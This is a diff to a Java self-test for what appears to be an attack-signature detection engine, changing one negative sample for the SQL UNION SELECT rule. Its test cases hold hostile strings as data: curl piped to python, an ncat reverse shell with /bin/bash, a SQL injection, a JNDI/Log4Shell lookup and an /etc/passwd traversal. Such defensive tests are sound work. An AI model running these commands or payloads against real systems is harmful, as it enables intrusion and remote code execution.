@@ -25,7 +25,7 @@ public final class EngineSelfTest {
     private static final List<Case> CASES = List.of(
             new Case("curl.*\\|\\s*python", "curl http://a.b/c.py | python -", "curl http://a.b/c.py > python"),
             new Case("(nc|ncat)\\s+-e\\s*/bin/(ba)?sh", "x; ncat -e /bin/bash 1", "x; ncat -l /bin/bash 1"),
-            new Case("union\\s+(all\\s+)?select", "id=1 UNION  ALL SELECT p", "the union selects all"),
+            new Case("union\\s+(all\\s+)?select", "id=1 UNION  ALL SELECT p", "the union elects all"),
             new Case("\\$\\{(jndi|lower):", "a ${jndi:ldap://x}", "a $ {jndi ldap}"),
             new Case("^\\x16\\x03[\\x00-\\x04]", "\u0016\u0003\u0001\u0002\0\u0001", "\u0016\u0004\u0001\u0002\0"),
             new Case("etc/passwd\\z", "../../etc/passwd", "../../etc/passwd2"));
